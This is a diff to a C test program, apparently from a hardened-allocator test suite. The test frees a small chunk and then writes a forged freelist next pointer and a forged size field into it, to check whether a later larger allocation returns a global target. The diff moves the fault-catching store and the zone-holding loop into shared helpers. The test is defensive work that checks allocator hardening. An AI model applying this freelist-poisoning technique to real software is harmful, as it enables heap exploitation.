@@ -22,44 +22,12 @@
 #include "attack.h"
 
 #include <malloc.h>
-#include <setjmp.h>
-#include <signal.h>
 
-#define SIZE_A     64
-#define SIZE_B     200
-#define PAIRS      20000
-#define HOLD_ZONES 3
-#define ZONE_BYTES ((size_t)4 << 20)
+#define SIZE_A 64
+#define SIZE_B 200
+#define PAIRS  20000
 
 static uint64_t target[8] __attribute__((aligned(64)));
-
-static sigjmp_buf fault_env;
-
-static void on_fault(int sig)
-{
-	(void)sig;
-	siglongjmp(fault_env, 1);
-}
-
-/* Stores a and b at dst[0] and dst[1]; returns 0 if a store faulted. */
-__attribute__((noinline)) static int try_store(volatile uint64_t *dst, uint64_t a, uint64_t b)
-{
-	struct sigaction sa, old_segv, old_bus;
-	memset(&sa, 0, sizeof(sa));
-	sa.sa_handler = on_fault;
-	sigemptyset(&sa.sa_mask);
-	sigaction(SIGSEGV, &sa, &old_segv);
-	sigaction(SIGBUS, &sa, &old_bus);
-	volatile int ok = 0;
-	if (sigsetjmp(fault_env, 1) == 0) {
-		dst[0] = a;
-		dst[1] = b;
-		ok = 1;
-	}
-	sigaction(SIGSEGV, &old_segv, NULL);
-	sigaction(SIGBUS, &old_bus, NULL);
-	return ok;
-}
 
 static const char *chunk_a;
 static size_t usable_a;
@@ -86,8 +54,8 @@ int main(void)
 		free(p);
 		/* The bug: a forged next pointer, and a forged size field
 		 * claiming the chunk is big enough for class B. */
-		stored = try_store((volatile uint64_t *)chunk_a, (uint64_t)(uintptr_t)target,
-		                   (uint64_t)(SIZE_B + 16) | 1);
+		uint64_t next_size[2] = {(uint64_t)(uintptr_t)target, (uint64_t)(SIZE_B + 16) | 1};
+		stored = try_store((volatile uint64_t *)chunk_a, next_size, 2);
 	}
 	if (!stored)
 		defended("every write into a freed class-A chunk faulted");
@@ -97,13 +65,6 @@ int main(void)
 		check(q);
 		free(q);
 	}
-	size_t hold = HOLD_ZONES * (ZONE_BYTES / (SIZE_B + 24));
-	void **kept = malloc(hold * sizeof(void *));
-	if (!kept)
-		return 2;
-	for (size_t i = 0; i < hold; i++) {
-		kept[i] = escape(malloc(SIZE_B));
-		check(kept[i]);
-	}
+	hold_zones(SIZE_B, SIZE_B + 24, check);
 	defended("no class-B allocation returned the freed class-A chunk or the global");
 }
